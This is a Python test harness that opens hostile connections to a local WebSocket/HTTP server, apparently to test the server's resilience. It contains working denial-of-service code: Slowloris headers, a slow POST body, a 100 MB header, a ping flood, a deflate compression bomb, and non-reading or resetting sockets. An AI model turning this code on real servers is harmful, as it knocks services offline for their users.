"""Peers that mean no good, as a program with the arguments `PORT KEY KIND:N ...`.

It prints "ready" when all have come, and holds on to its connections until it is killed.
"""

import asyncio
import socket
import struct
import sys
import time
import zlib
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass

from websockets.frames import Frame, Opcode

FLOOD_SECONDS = 4
"""How long those who are thrown out at once come back again and again."""

_RESET = struct.pack("ii", 1, 0)
"""SO_LINGER: close with a reset, as when the network goes."""

_DEFLATE = zlib.compressobj(9, zlib.DEFLATED, -15)
_BOMB = _DEFLATE.compress(bytes(15_000_000)) + _DEFLATE.flush(zlib.Z_SYNC_FLUSH)


@dataclass
class Line:
    """A raw connection to the server under attack. Nothing is read but where it says so."""

    port: int
    key: str
    connection: socket.socket

    async def send(self, data: bytes) -> None:
        await asyncio.get_running_loop().sock_sendall(self.connection, data)

    async def upgrade(self, *headers: str) -> bytes:
        """Become the socket of an overlay; return how that is answered."""
        head = [
            f"GET /ws/overlay/{self.key} HTTP/1.1",
            "Host: localhost",
            "Upgrade: websocket",
            "Connection: Upgrade",
            "Sec-WebSocket-Version: 13",
            "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
            *headers,
        ]
        await self.send("\r\n".join([*head, "", ""]).encode())
        return await asyncio.get_running_loop().sock_recv(self.connection, 1000)


async def slow_head(line: Line) -> None:
    """Slowloris: a head that never ends, a line a second."""
    await line.send(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
    while True:
        await asyncio.sleep(1)
        await line.send(b"X-Patience: yes\r\n")


async def slow_body(line: Line) -> None:
    """A body that never ends, a byte a second, where nobody is signed in."""
    await line.send(
        b"POST /api/session HTTP/1.1\r\nHost: localhost\r\n"
        b"Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n"
    )
    while True:
        await asyncio.sleep(1)
        await line.send(b" ")


async def long_head(line: Line) -> None:
    """A head of 100 MB."""
    await line.send(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Long: ")
    for _ in range(1600):
        await line.send(b"x" * 65536)


async def ping_flood(line: Line) -> None:
    """Pings without end, and no pong is read."""
    await line.upgrade()
    pings = Frame(Opcode.PING, bytes(125)).serialize(mask=True) * 100
    while True:
        await line.send(pings)


async def deflate_bomb(line: Line) -> None:
    """15 kB that would unpack to 15 MB, whether or not the extension was granted."""
    answer = await line.upgrade("Sec-WebSocket-Extensions: permessage-deflate")
    if b"permessage-deflate" in answer:
        sys.stdout.write("granted\n")
    frame = bytearray(Frame(Opcode.TEXT, _BOMB).serialize(mask=True))
    frame[0] |= 0x40  # "compressed"
    while True:
        await line.send(bytes(frame))


async def silent(line: Line) -> None:
    """Nothing is said."""
    await asyncio.Event().wait()


async def deaf_overlay(line: Line) -> None:
    """A socket that never reads, and so answers no ping."""
    await line.upgrade()
    await asyncio.Event().wait()


async def deaf_reader(line: Line) -> None:
    """Asks for more and more, and reads nothing of it."""
    while True:
        await line.send(b"GET /api/openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n" * 2)
        await asyncio.sleep(0.05)


async def passer_by(line: Line) -> None:
    """Comes and goes, at every stage of a visit."""
    visit = line.connection.fileno() % 3
    if visit == 1:
        await line.send(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
    elif visit == 2:
        await line.upgrade()
    raise ConnectionResetError


HOLDING: dict[str, Callable[[Line], Awaitable[None]]] = {
    "slow-head": slow_head,
    "slow-body": slow_body,
    "silent": silent,
    "deaf-overlay": deaf_overlay,
    "deaf-reader": deaf_reader,
}
FLOODING: dict[str, Callable[[Line], Awaitable[None]]] = {
    "long-head": long_head,
    "ping-flood": ping_flood,
    "deflate-bomb": deflate_bomb,
}


async def _visit(kind: Callable[[Line], Awaitable[None]], port: int, key: str) -> None:
    """Come, and stay until thrown out."""
    with socket.socket() as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8192)
        connection.setblocking(False)
        with suppress(OSError):
            await asyncio.get_running_loop().sock_connect(connection, ("127.0.0.1", port))
            await kind(Line(port, key, connection))
        if kind is passer_by:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET)


async def _flood(kind: Callable[[Line], Awaitable[None]], port: int, key: str) -> None:
    last = time.monotonic() + FLOOD_SECONDS
    while time.monotonic() < last:
        await _visit(kind, port, key)


async def _pass_by(visits: int, port: int, key: str) -> None:
    for _ in range(0, visits, 50):
        await asyncio.gather(*[_visit(passer_by, port, key) for _ in range(min(50, visits))])


async def main(port: int, key: str, kinds: list[str]) -> None:
    holding: list[asyncio.Task[None]] = []
    coming: list[Awaitable[None]] = []
    for kind, _, number in (kind.partition(":") for kind in kinds):
        if kind == "passer-by":
            coming.append(_pass_by(int(number), port, key))
        elif kind in FLOODING:
            coming += [_flood(FLOODING[kind], port, key) for _ in range(int(number))]
        else:
            for count in range(int(number)):
                holding.append(asyncio.create_task(_visit(HOLDING[kind], port, key)))
                if count % 50 == 49:
                    await asyncio.sleep(0.05)  # a queue of new connections holds only so many
    await asyncio.gather(*coming)
    await asyncio.sleep(0.5)
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    await asyncio.Event().wait()


if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1]), sys.argv[2], sys.argv[3:]))
